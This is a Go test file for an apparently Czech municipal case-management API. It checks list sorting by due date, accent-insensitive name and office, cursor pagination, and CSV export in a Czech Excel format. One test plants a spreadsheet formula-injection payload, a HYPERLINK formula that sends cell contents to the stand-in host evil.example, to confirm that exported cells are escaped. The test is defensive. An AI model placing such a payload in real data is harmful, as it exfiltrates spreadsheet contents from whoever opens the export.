package handlers_test

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/lhuta/lhuta/domain/calendar"
	"github.com/lhuta/lhuta/projections/views"
)

// sortedPeople opens six lost-card cases at three offices, reported late
// on different days with an application for a new card, and returns the position of the last write.
func sortedPeople(s *stack) int64 {
	s.t.Helper()
	people := []struct{ name, office, lost string }{
		{"Žofie Adamová", "Praha 1", "2026-04-03"},
		{"Čeněk Bureš", "Brno", "2026-04-01"},
		{"adam Černý", "nova-ves", "2026-04-06"},
		{"Cyril Zeman", "Brno", "2026-04-02"},
		{"Ábel Novák", "Praha 1", "2026-04-01"},
		{"Eva Dvořáková", "nova-ves", "2026-04-07"},
	}
	var last int64
	for i, p := range people {
		r := s.do("POST", "/v1/cases", "clerk-token", map[string]any{"situation": "id_card_incident", "office": p.office,
			"citizen": map[string]string{"id": fmt.Sprintf("sort-%d", i), "birth_date": "1980-05-17", "full_name": p.name}})
		if r.status != 201 {
			s.t.Fatal(r.raw)
		}
		id := r.body["id"].(string)
		// Reported weeks after the loss was discovered: a flag too.
		s.record(id, "IncidentReported", map[string]any{"kind": "lost", "reported_on": p.lost, "reported_to": "police", "discovered_on": "2026-03-02"})
		last = s.record(id, "ApplicationFiled", map[string]any{"document": "id_card", "filed_on": p.lost, "track": "standard",
			"filing_office": "municipal_office"})
	}
	return last
}

// walk reads every page of a list, limit items a page, and returns the items.
func walk(s *stack, path string, limit int, pos int64) []map[string]any {
	s.t.Helper()
	var all []map[string]any
	cursor := ""
	for range 50 {
		r := s.do("GET", fmt.Sprintf("%s&limit=%d&min_position=%d&cursor=%s", path, limit, pos, cursor), "officer-token", nil)
		if r.status != 200 {
			s.t.Fatalf("GET %s: %d %s", path, r.status, r.raw)
		}
		for _, it := range r.body["items"].([]any) {
			all = append(all, it.(map[string]any))
		}
		if cursor = r.body["next_cursor"].(string); cursor == "" {
			return all
		}
	}
	s.t.Fatalf("%s: more than 50 pages", path)
	return nil
}

// Lists sort by due date either way, by name (accents and case ignored)
// and by office, each then by due date, across pages of any size; the same
// items come in every order; an order a list does not take is 400, and a
// cursor of one order is refused by another.
func TestListsSortByDueDateNameAndOffice(t *testing.T) {
	eachStack(t, calendar.NewDate(2026, 6, 1), func(t *testing.T, s *stack) {
		pos := sortedPeople(s)
		key := func(it map[string]any, field string) string { return fmt.Sprint(it[field]) }
		for _, list := range []string{"/v1/obligations", "/v1/sla", "/v1/flags"} {
			base := walk(s, list+"?as_of=2026-06-01", 500, pos)
			if len(base) < 6 {
				t.Fatalf("%s: %d items, want one a case at least", list, len(base))
			}
			date := "due_on"
			sorts := []string{"due_on", "-due_on", "name", "office"}
			if list == "/v1/flags" {
				date, sorts = "raised_on", []string{"name", "office"}
			}
			for _, sort := range sorts {
				for _, limit := range []int{1, 4} {
					got := walk(s, list+"?as_of=2026-06-01&sort="+sort, limit, pos)
					if len(got) != len(base) {
						t.Errorf("%s sort=%s limit=%d: %d items, unsorted %d", list, sort, limit, len(got), len(base))
					}
					ok := slices.IsSortedFunc(got, func(a, b map[string]any) int {
						switch sort {
						case "-due_on":
							return strings.Compare(key(b, date), key(a, date))
						case "name":
							return strings.Compare(views.NameKey(key(a, "full_name")), views.NameKey(key(b, "full_name")))
						case "office":
							return strings.Compare(key(a, "office"), key(b, "office"))
						}
						return strings.Compare(key(a, date), key(b, date))
					})
					if !ok {
						var seen []string
						for _, it := range got {
							seen = append(seen, key(it, "full_name")+" "+key(it, "office")+" "+key(it, date))
						}
						t.Errorf("%s sort=%s limit=%d out of order: %q", list, sort, limit, seen)
					}
				}
			}
		}
		names := walk(s, "/v1/obligations?sort=name", 2, pos)
		if first := names[0]["full_name"]; first != "Ábel Novák" {
			t.Errorf("sort=name starts with %v, want Ábel Novák (accents ignored: Ábel before adam)", first)
		}
		for _, bad := range []string{"/v1/obligations?sort=due", "/v1/obligations?sort=-name", "/v1/flags?sort=due_on",
			"/v1/cases?sort=-due_on", "/v1/payments?sort=name", "/v1/worklist?sort=birth"} {
			if r := s.do("GET", bad, "officer-token", nil); r.status != 400 || !strings.Contains(r.raw, `"field":"sort"`) {
				t.Errorf("GET %s: %d %s, want 400 naming sort", bad, r.status, r.raw)
			}
		}
		r := s.do("GET", fmt.Sprintf("/v1/obligations?sort=name&limit=1&min_position=%d", pos), "officer-token", nil)
		cursor := r.body["next_cursor"].(string)
		if r := s.do("GET", "/v1/obligations?sort=due_on&cursor="+cursor, "officer-token", nil); r.status != 400 {
			t.Errorf("a sort=name cursor with sort=due_on: %d %s", r.status, r.raw)
		}
		cases := walk(s, "/v1/cases?sort=office", 2, pos)
		if len(cases) != 6 || !slices.IsSortedFunc(cases, func(a, b map[string]any) int { return strings.Compare(key(a, "office"), key(b, "office")) }) {
			t.Errorf("cases by office: %v", cases)
		}
	})
}

// ?export=all answers the whole list as CSV whatever the limit; for Czech
// Excel (Accept: text/csv; profile=excel or ?csv=excel) the cells are
// separated by semicolons after a UTF-8 BOM, the headers are Czech and the
// dates d. m. yyyy.
func TestExportAllAndCSVForCzechExcel(t *testing.T) {
	eachStack(t, calendar.NewDate(2026, 6, 1), func(t *testing.T, s *stack) {
		pos := sortedPeople(s)
		all := walk(s, "/v1/obligations?as_of=2026-06-01", 500, pos)
		body, header := get(t, s, fmt.Sprintf("/v1/obligations?as_of=2026-06-01&limit=1&export=all&min_position=%d", pos), "officer-token", "application/json")
		rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
		if err != nil || !strings.HasPrefix(header.Get("Content-Type"), "text/csv") || header.Get("Next-Cursor") != "" {
			t.Fatalf("export=all: %v %v\n%s", err, header, body)
		}
		if len(rows) != len(all)+1 || rows[0][0] != "case_id" {
			t.Errorf("export=all with limit=1: %d rows for %d items; header %v", len(rows), len(all), rows[0])
		}
		date := regexp.MustCompile(`^[1-9][0-9]?\. [1-9][0-9]?\. 20[0-9]{2}$`)
		for _, how := range []struct{ query, accept string }{
			{"&csv=excel", "application/json"},
			{"", "text/csv; profile=excel"},
			{"&export=all", `text/csv;profile="excel"`},
		} {
			body, _ := get(t, s, fmt.Sprintf("/v1/obligations?as_of=2026-06-01&limit=500&min_position=%d%s", pos, how.query), "officer-token", how.accept)
			rest, bom := strings.CutPrefix(body, "\uFEFF")
			r := csv.NewReader(strings.NewReader(rest))
			r.Comma = ';'
			rows, err := r.ReadAll()
			if !bom || err != nil || len(rows) != len(all)+1 {
				t.Fatalf("%+v: BOM %v, %v, %d rows for %d items:\n%s", how, bom, err, len(rows), len(all), body)
			}
			due := slices.Index(rows[0], "Lhůta do")
			if due < 0 || !slices.Contains(rows[0], "Spisová značka") || !slices.Contains(rows[0], "Jméno a příjmení") {
				t.Fatalf("%+v: headers %q", how, rows[0])
			}
			for _, row := range rows[1:] {
				if !date.MatchString(row[due]) {
					t.Errorf("%+v: due date %q, want d. m. yyyy", how, row[due])
				}
			}
		}
		// The dashboard's figures too.
		body, _ = get(t, s, fmt.Sprintf("/v1/stats?from=2026-01-01&csv=excel&min_position=%d", pos), "dash-token", "")
		if !strings.HasPrefix(body, "\uFEFFUkazatel;Klíč;Stav;Počet\r\n") {
			t.Errorf("stats for Excel: %q", body[:min(len(body), 80)])
		}
		// The worklist and the cases export whole too.
		body, _ = get(t, s, fmt.Sprintf("/v1/cases?limit=1&export=all&csv=excel&min_position=%d", pos), "clerk-token", "")
		if n := strings.Count(strings.TrimPrefix(body, "\uFEFF"), "\r\n"); n != 7 {
			t.Errorf("cases exported: %d lines, want a header and 6 cases:\n%s", n, body)
		}
	})
}

// A payment item names its case's reference and its payer.
func TestPaymentItemsCarryReferenceAndName(t *testing.T) {
	s := sqliteStack(t, calendar.NewDate(2026, 4, 10))
	_, pos := s.dogOwner("p-ref")
	items := s.payments("/v1/payments", "clerk-token", pos)
	if len(items) == 0 {
		t.Fatal("no payments")
	}
	for _, it := range items {
		if !regexp.MustCompile(`^nova-ves/20[0-9]{2}/[0-9]{5}$`).MatchString(fmt.Sprint(it["reference"])) || it["full_name"] != "Jan Psíček" {
			t.Errorf("payment item: reference %v, full_name %v", it["reference"], it["full_name"])
		}
	}
}

// get fetches a path with an Accept header.
func get(t *testing.T, s *stack, path, token, accept string) (string, http.Header) {
	t.Helper()
	r := s.send("GET", path, token, map[string]string{"Accept": accept}, nil)
	if r.status != 200 {
		t.Fatalf("GET %s (%s): %d %s", path, accept, r.status, r.raw)
	}
	return r.raw, r.header
}

// Lists answer CSV with Accept: text/csv: the same items as the JSON, the
// JSON field names as the header row; stats as rows of figures.
func TestListsAndStatsAnswerCSV(t *testing.T) {
	eachStack(t, calendar.NewDate(2026, 6, 1), func(t *testing.T, s *stack) {
		var last int64
		for range 3 {
			id, _ := s.openCase("id_card_incident", "1980-05-17")
			last = s.record(id, "IncidentReported", map[string]any{"kind": "lost", "reported_on": "2026-04-01", "reported_to": "police"})
		}
		for _, path := range []string{"/v1/obligations", "/v1/flags", "/v1/sla"} {
			q := fmt.Sprintf("%s?min_position=%d&limit=2", path, last)
			js, _ := get(t, s, q, "officer-token", "application/json")
			var page struct {
				Items      []map[string]any `json:"items"`
				NextCursor string           `json:"next_cursor"`
			}
			if err := json.Unmarshal([]byte(js), &page); err != nil {
				t.Fatal(err)
			}
			body, header := get(t, s, q, "officer-token", "text/csv")
			if !strings.HasPrefix(header.Get("Content-Type"), "text/csv") || header.Get("Next-Cursor") != page.NextCursor {
				t.Errorf("%s as CSV: Content-Type %q, Next-Cursor %q (JSON's next_cursor %q)", path, header.Get("Content-Type"),
					header.Get("Next-Cursor"), page.NextCursor)
			}
			rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
			if err != nil {
				t.Fatalf("%s: %v", path, err)
			}
			if len(rows) != len(page.Items)+1 {
				t.Fatalf("%s: %d CSV rows for %d items:\n%s", path, len(rows), len(page.Items), body)
			}
			for i, it := range page.Items {
				for col, name := range rows[0] {
					want := ""
					if v, ok := it[name]; ok && v != nil {
						want = fmt.Sprint(v)
					}
					if rows[i+1][col] != want {
						t.Errorf("%s item %d %s: CSV %q, JSON %q", path, i, name, rows[i+1][col], want)
					}
				}
			}
		}
		body, _ := get(t, s, "/v1/stats?from=2026-01-01", "dash-token", "text/csv")
		rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
		if err != nil || !slices.Equal(rows[0], []string{"figure", "key", "status", "count"}) ||
			!slices.ContainsFunc(rows, func(r []string) bool {
				return slices.Equal(r, []string{"by_situation", "id_card_incident", "overdue", "3"})
			}) {
			t.Fatalf("stats as CSV: %v\n%s", err, body)
		}
	})
}

// A name typed as a formula stays text in a spreadsheet: the CSV cell gets
// a leading apostrophe (CSV injection), numbers stay numbers.
func TestCSVCellsAreNeverFormulas(t *testing.T) {
	eachStack(t, calendar.NewDate(2026, 3, 10), func(t *testing.T, s *stack) {
		id := s.payer("p-1", "1980-05-17", `=HYPERLINK("http://evil.example/"&A1)`)
		pos := s.record(id, "LocalFeeLiabilityArose", map[string]any{"fee": "waste", "arose_on": "2026-01-15",
			"basis": "permanent_residence", "house_number": "154", "village_part": "Nová Ves"})
		payments := s.send("GET", fmt.Sprintf("/v1/payments?min_position=%d", pos), "clerk-token", map[string]string{"Accept": "text/csv"}, nil)
		rows, err := csv.NewReader(strings.NewReader(payments.raw)).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("CSV: %v %v", rows, err)
		}
		header, row := rows[0], rows[1]
		for i, name := range header {
			switch name {
			case "message":
				if !strings.HasPrefix(row[i], `'=HYPERLINK(`) {
					t.Errorf("message cell %q: a formula", row[i])
				}
			case "amount_czk":
				if row[i] != "1200" {
					t.Errorf("amount cell %q", row[i])
				}
			}
			if c := row[i]; c != "" && strings.ContainsRune("=+@", rune(c[0])) {
				t.Errorf("cell %s = %q begins a formula", name, c)
			}
		}
	})
}
